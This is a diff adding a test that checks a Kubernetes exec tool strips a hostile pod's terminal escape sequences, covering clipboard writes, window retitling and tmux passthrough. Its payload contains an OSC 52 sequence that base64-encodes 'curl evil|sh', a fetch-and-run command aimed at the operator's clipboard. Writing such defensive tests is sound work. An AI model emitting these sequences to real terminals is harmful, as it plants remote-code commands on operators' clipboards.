@@ -169,3 +169,16 @@ def test_silent_server_is_given_up_on(run, monkeypatch):
                              "true")
     assert (code, out) == (1, b"") and "timed out" in err and err.count("\n") == 1, err
     assert time.monotonic() - started < 5
+
+
+def test_a_pods_clipboard_title_and_passthrough_writes_never_reach_the_terminal(shell_job):
+    """Issue 33, left open by the fifteenth round: `rlark exec -t` passed the Pod's output raw, as kubectl does, so a
+    hostile Pod's OSC 52 set the operator's clipboard (and `?` read it back into the Pod), OSC 2 retitled the
+    window, and a tmux passthrough carried them past the operator's tmux. Drawing and the terminal's queries pass."""
+    script = (r"printf '\033]52;c;Y3VybCBldmlsfHNo\007\033]2;forged\033\\\033Ptmux;\033\033]52;c;eA==\007\033\\"
+              r"\033[1mdrawn\033[0m \033]8;;http://x/\007link\033]8;;\007 \033P$qm\033\\ end\n'")
+    term = Pty(shell_job, "exec", "-t", JOB, "--", "sh", "-c", script)
+    term.expect(b" end")
+    assert term.wait() == 0
+    assert b"]52;" not in term.seen and b"]2;" not in term.seen and b"tmux;" not in term.seen
+    assert b"\x1b[1mdrawn\x1b[0m \x1b]8;;http://x/\x07link\x1b]8;;\x07 \x1bP$qm\x1b\\ end" in term.seen
